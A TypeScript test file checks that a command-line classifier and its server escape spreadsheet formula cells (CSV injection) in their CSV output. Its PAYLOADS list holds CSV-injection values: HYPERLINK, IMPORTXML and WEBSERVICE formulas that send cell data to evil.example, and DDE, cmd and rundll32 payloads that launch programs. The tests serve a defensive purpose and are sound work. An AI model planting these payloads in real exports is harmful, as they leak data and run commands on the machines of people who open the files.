import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { runFmc, tempDir } from '../helpers.js';
import { startServer, type TestServer } from '../server/helpers.js';

// Issue #12, item 9: cells a spreadsheet would run as formulas (CSV injection) come out
// with a leading `'` (OWASP), in every way fmc writes CSV: the copied-bytes path (UTF-8,
// the output's delimiter), the re-serialized one (Windows-1252, another delimiter, JSONL
// input, stdout) and the server's CSV answer; `--no-escape-formulas` and
// `?escape_formulas=false` opt out; JSONL output is left as it was.

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '-@A1',
  '@A1',
  '=A1;B2',
  '=1,2',
  '=a"b',
  '\t\t@x',
  '+33 6 12 34 56 78 la box ne marche plus',
];
const SAFE = ['plus de connexion depuis hier', "l'appli Free", 'a=b', ' =1+1', '1-2'];

const escaped = (cell: string): string => `'${cell}`;

let dir: string;
let cleanup: () => void;
let server: TestServer;
before(async () => {
  ({ dir, cleanup } = tempDir());
  server = await startServer();
});
after(async () => {
  await server.close();
  cleanup();
});

/** id, text, note: each payload both as the tweet and in another column. */
function inputRows(): string[][] {
  return [...PAYLOADS, ...SAFE].map((p, i) => [String(i + 1), p, p]);
}

const fmc = (args: string[], input?: string | Buffer) => runFmc([...args, '--provider', 'rules', '--quiet'], { input, env: { FMC_CACHE: join(dir, 'cache.sqlite') } });

/** The output's cells, read back as a spreadsheet import would: csv-parse, no trimming. */
function readBack(output: string | Buffer, delimiter = ','): string[][] {
  const rows = parse(output, { delimiter, bom: true, relax_column_count: false }) as string[][];
  assert.deepEqual(rows[0]!.slice(0, 3), ['id', 'text', 'note']);
  return rows.slice(1);
}

function assertEscaped(rows: string[][], where: string): void {
  assert.ok(PAYLOADS.length >= 24);
  assert.equal(rows.length, PAYLOADS.length + SAFE.length, where);
  PAYLOADS.forEach((p, i) => {
    assert.equal(rows[i]![1], escaped(p), `${where}: text of payload ${JSON.stringify(p)}`);
    assert.equal(rows[i]![2], escaped(p), `${where}: note of payload ${JSON.stringify(p)}`);
  });
  SAFE.forEach((s, k) => assert.equal(rows[PAYLOADS.length + k]![1], s, `${where}: ${JSON.stringify(s)} is not a formula`));
}

test('the copied-bytes path (UTF-8 comma CSV to a CSV file) escapes every payload, and still copies the other rows as read', () => {
  const input = join(dir, 'in.csv');
  // The safe rows are quoted where csv-stringify would not quote them: only a copy keeps that.
  const safeQuoted = SAFE.map((s, k) => `${PAYLOADS.length + k + 1},"${s}","${s}"`).join('\n');
  writeFileSync(input, `id,text,note\n${stringify(inputRows().slice(0, PAYLOADS.length))}${safeQuoted}\n`);
  const out = join(dir, 'out.csv');
  const r = fmc(['classify', input, '-o', out]);
  assert.equal(r.status, 0, r.stderr);
  const text = readFileSync(out, 'utf8');
  assertEscaped(readBack(text), 'file, copied path');
  assert.ok(text.includes(`\n${PAYLOADS.length + 1},"${SAFE[0]}","${SAFE[0]}",`), 'a row without a risky cell is still copied byte for byte');
});

test('the re-serialized paths escape every payload: Windows-1252, a semicolon input written with commas, JSONL input, stdout', () => {
  const rows = inputRows();
  // Windows-1252 cannot hold the full-width forms: this file has the other payloads, and an
  // accent (0xE9) so the encoding is sniffed.
  const cp1252 = join(dir, 'in-1252.csv');
  const ascii = rows.slice(0, PAYLOADS.length).filter(([, text]) => !/[＝＋－＠]/.test(text!));
  writeFileSync(cp1252, Buffer.from(`id,text,note\n${stringify([...ascii, ['99', 'réseau coupé', 'é']])}`, 'latin1'));
  const w = fmc(['classify', cp1252, '-o', join(dir, 'out-1252.csv'), '--delimiter', ',', '--no-bom']);
  assert.equal(w.status, 0, w.stderr);
  const back = readBack(readFileSync(join(dir, 'out-1252.csv')));
  ascii.forEach(([, p], i) => assert.deepEqual(back[i]!.slice(1, 3), [escaped(p!), escaped(p!)], `windows-1252: ${JSON.stringify(p)}`));
  assert.ok(ascii.length >= 20);
  assert.equal(back[ascii.length]![1], 'réseau coupé');

  const semicolon = join(dir, 'in-semicolon.csv');
  writeFileSync(semicolon, `id;text;note\n${stringify(rows, { delimiter: ';' })}`);
  const s = fmc(['classify', semicolon, '-o', join(dir, 'out-semicolon.csv'), '--delimiter', ',']);
  assert.equal(s.status, 0, s.stderr);
  assertEscaped(readBack(readFileSync(join(dir, 'out-semicolon.csv'))), 'semicolon in, comma out');

  const jsonl = join(dir, 'in.jsonl');
  writeFileSync(jsonl, rows.map(([id, text, note]) => JSON.stringify({ id, text, note })).join('\n') + '\n');
  const j = fmc(['classify', jsonl, '-o', join(dir, 'out-from-jsonl.csv')]);
  assert.equal(j.status, 0, j.stderr);
  assertEscaped(readBack(readFileSync(join(dir, 'out-from-jsonl.csv'))), 'JSONL in, CSV out');

  const stdout = fmc(['classify', '-', '-o', '-'], `id,text,note\n${stringify(rows)}`);
  assert.equal(stdout.status, 0, stdout.stderr);
  assertEscaped(readBack(stdout.stdout), 'stdin to stdout');
});

test('the server CSV answer (the dashboard download) escapes every payload; escape_formulas=false opts out', async () => {
  const body = `id,text,note\n${stringify(inputRows())}`;
  const post = (query: string) => fetch(`${server.url}/api/classify${query}`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body });
  const r = await post('');
  assert.equal(r.status, 200);
  assertEscaped(readBack(await r.text()), 'server');
  const raw = await post('?escape_formulas=false');
  assert.equal(raw.status, 200);
  const rows = readBack(await raw.text());
  PAYLOADS.forEach((p, i) => assert.equal(rows[i]![1], p, `opted out: ${JSON.stringify(p)}`));
});

test('--no-escape-formulas writes the cells as they were; JSONL output is never escaped', () => {
  const input = join(dir, 'in-optout.csv');
  writeFileSync(input, `id,text,note\n${stringify(inputRows())}`);
  const r = fmc(['classify', input, '-o', join(dir, 'out-optout.csv'), '--no-escape-formulas']);
  assert.equal(r.status, 0, r.stderr);
  const rows = readBack(readFileSync(join(dir, 'out-optout.csv')));
  PAYLOADS.forEach((p, i) => assert.deepEqual(rows[i]!.slice(1, 3), [p, p], JSON.stringify(p)));

  const j = fmc(['classify', input, '-o', join(dir, 'out.jsonl')]);
  assert.equal(j.status, 0, j.stderr);
  const objects = readFileSync(join(dir, 'out.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { text: string; note: string });
  PAYLOADS.forEach((p, i) => assert.deepEqual([objects[i]!.text, objects[i]!.note], [p, p], `JSONL: ${JSON.stringify(p)}`));
});
